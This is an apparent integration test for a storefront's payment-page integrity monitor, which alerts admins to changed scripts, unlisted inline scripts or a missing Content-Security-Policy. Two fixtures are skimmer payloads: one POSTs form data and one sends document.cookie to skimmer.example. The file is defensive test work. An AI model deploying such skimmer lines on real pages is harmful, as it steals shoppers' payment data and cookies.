/**
 * The daily payment page check on a real database, against a storefront served from a local
 * HTTP server: nothing changed and nothing is raised; a changed script, an unknown inline script
 * and a removed Content-Security-Policy each open one alert, mailed once to the brand admins and
 * listed for them (store staff are refused); an alert closes when the page is back as approved.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eq } from 'drizzle-orm';
import { integrityOf, renderApprovedList, type ApprovedList } from '@/domain/payment-page/approved-list';
import * as t from '@/server/db/schema';
import { buildStaff, staffClient } from '@/server/modules/staff/test-staff';
import { build, testDatabases, type TestApp } from '@/server/test/build-app';
import { buildReferenceData } from '@/server/test/factories';
import { PAYMENT_PAGE_CHECK_JOB } from './index';

const CSP = "default-src 'self'; script-src 'self' 'nonce-abc123'; frame-ancestors 'none'; object-src 'none'";
const INLINE = 'document.documentElement.dataset.ready="1"';
const MAIN = 'console.log("main chunk")';
const PAGE = 'console.log("payment page")';

type Site = { csp: string | null; scripts: Record<string, string>; extraInline: string | null };

function pageHtml(site: Site): string {
  const inline = [INLINE, ...(site.extraInline ? [site.extraInline] : [])].map((text) => `<script nonce="abc123">${text}</script>`).join('');
  const external = Object.keys(site.scripts)
    .map((src) => `<script src="${src}" defer="" nonce="abc123"></script>`)
    .join('');
  return `<!DOCTYPE html><html><head>${inline}<script id="__NEXT_DATA__" type="application/json">{"props":{}}</script></head><body>${external}</body></html>`;
}

function approvedList(): ApprovedList {
  const scripts = [
    { src: null, integrity: integrityOf(INLINE), reason: 'Marks the page ready.' },
    { src: '/_next/static/chunks/main.js', integrity: integrityOf(MAIN), reason: 'The framework.' },
    { src: '/_next/static/chunks/pay.js', integrity: integrityOf(PAGE), reason: 'The payment form.' },
  ];
  return { buildId: 'test-build', pages: ['/checkout/payment', '/catering/quotes/[number]/pay'].map((route) => ({ route, scripts })) };
}

function freshSite(): Site {
  return { csp: CSP, scripts: { '/_next/static/chunks/main.js': MAIN, '/_next/static/chunks/pay.js': PAGE }, extraInline: null };
}

describe.each(testDatabases())('the payment page check on %s', (kind) => {
  let site: Site = freshSite();
  let server: Server;
  let folder: string;
  let app: TestApp;
  let adminToken: string;
  let storeToken: string;
  let adminEmail: string;

  beforeAll(async () => {
    server = createServer((request, response) => {
      const path = (request.url ?? '/').split('?')[0]!;
      if (path in site.scripts) {
        response.writeHead(200, { 'content-type': 'application/javascript' }).end(site.scripts[path]);
        return;
      }
      if (path === '/checkout/payment' || /^\/catering\/quotes\/[^/]+\/pay$/.test(path)) {
        response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...(site.csp ? { 'content-security-policy': site.csp } : {}) }).end(pageHtml(site));
        return;
      }
      response.writeHead(404).end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    folder = await mkdtemp(join(tmpdir(), 'hickory-payment-page-'));
    const listFile = join(folder, 'payment-page-scripts.md');
    await writeFile(listFile, renderApprovedList(approvedList()));
    app = await build(kind, { config: { paymentPageCheck: true, storefrontUrl: `http://127.0.0.1:${port}`, paymentPageScriptsFile: listFile, rateLimitMax: 1_000_000 } });
    await buildReferenceData(app.db);
    const admin = await buildStaff(app.db, { role: 'brand_admin' });
    adminEmail = admin.email;
    adminToken = await staffClient(app.app).signIn(admin);
    storeToken = await staffClient(app.app).signIn(await buildStaff(app.db, { role: 'store_staff' }));
  });
  afterAll(async () => {
    await app.close();
    await new Promise((resolve) => server.close(resolve));
    await rm(folder, { recursive: true, force: true });
  });
  beforeEach(() => {
    site = freshSite();
  });

  const run = (at = '2030-05-01T06:00:00Z') => app.app.jobs.runOnce(PAYMENT_PAGE_CHECK_JOB, new Date(at));
  const alerts = (token = adminToken) => app.app.inject({ method: 'GET', url: '/online-ordering/staff/payment-page-alerts', headers: { authorization: `Bearer ${token}` } });
  const mails = () => app.db.select().from(t.outboxEmails).where(eq(t.outboxEmails.kind, 'payment-page-alert'));

  it('raises nothing when the pages serve the approved scripts and headers', async () => {
    expect(await run()).toMatchObject({ pages: 2, scripts: 6, differences: 0, opened: 0, mailed: 0 });
    expect((await alerts()).json()).toEqual({ data: [] });
    expect(await mails()).toHaveLength(0);
  });

  it('alerts once when an approved script changes, and closes the alert when it is back', async () => {
    site.scripts['/_next/static/chunks/pay.js'] = 'fetch("https://skimmer.example/c", { method: "POST", body: document.forms[0] })';
    expect(await run()).toMatchObject({ differences: 2, opened: 2, mailed: 1 });
    expect(await run('2030-05-02T06:00:00Z')).toMatchObject({ differences: 2, opened: 0, mailed: 0 });
    const listed = (await alerts()).json() as { data: { route: string; kind: string; description: string }[] };
    expect(listed.data.map((alert) => [alert.route, alert.kind])).toEqual([
      ['/checkout/payment', 'script-changed'],
      ['/catering/quotes/[number]/pay', 'script-changed'],
    ]);
    expect(listed.data[0]!.description).toContain('/_next/static/chunks/pay.js changed');
    const [mail, ...more] = await mails();
    expect(more).toHaveLength(0);
    expect(mail).toMatchObject({ toAddress: adminEmail, subject: 'Payment pages changed: 2 alerts' });
    expect(mail!.text).toContain('/staff/payment-page');

    site = freshSite();
    expect(await run('2030-05-03T06:00:00Z')).toMatchObject({ differences: 0, opened: 0, resolved: 2 });
    expect((await alerts()).json()).toEqual({ data: [] });
    await app.db.delete(t.outboxEmails).where(eq(t.outboxEmails.kind, 'payment-page-alert'));
  });

  it('alerts on an inline script that is not on the list', async () => {
    site.extraInline = 'new Image().src="https://skimmer.example/?"+document.cookie';
    expect(await run('2030-05-04T06:00:00Z')).toMatchObject({ differences: 2, opened: 2, mailed: 1 });
    const listed = (await alerts()).json() as { data: { kind: string; description: string }[] };
    expect(listed.data.map((alert) => alert.kind)).toEqual(['script-added', 'script-added']);
    expect(listed.data[0]!.description).toContain('a script not on the approved list is served: inline (sha256-');
    site = freshSite();
    expect(await run('2030-05-05T06:00:00Z')).toMatchObject({ resolved: 2 });
    await app.db.delete(t.outboxEmails).where(eq(t.outboxEmails.kind, 'payment-page-alert'));
  });

  it('alerts when the Content-Security-Policy header is removed', async () => {
    site.csp = null;
    expect(await run('2030-05-06T06:00:00Z')).toMatchObject({ differences: 2, opened: 2, mailed: 1 });
    const listed = (await alerts()).json() as { data: { kind: string; description: string }[] };
    expect(listed.data.map((alert) => alert.description)).toEqual([
      '/checkout/payment: the Content-Security-Policy header is missing.',
      '/catering/quotes/[number]/pay: the Content-Security-Policy header is missing.',
    ]);
    site = freshSite();
    expect(await run('2030-05-07T06:00:00Z')).toMatchObject({ resolved: 2 });
  });

  it('shows the alerts to brand admins only', async () => {
    const response = await alerts(storeToken);
    expect(response.statusCode).toBe(403);
    expect(response.json()).toMatchObject({ code: 'forbidden' });
    expect((await app.app.inject({ method: 'GET', url: '/online-ordering/staff/payment-page-alerts' })).statusCode).toBe(401);
  });
});
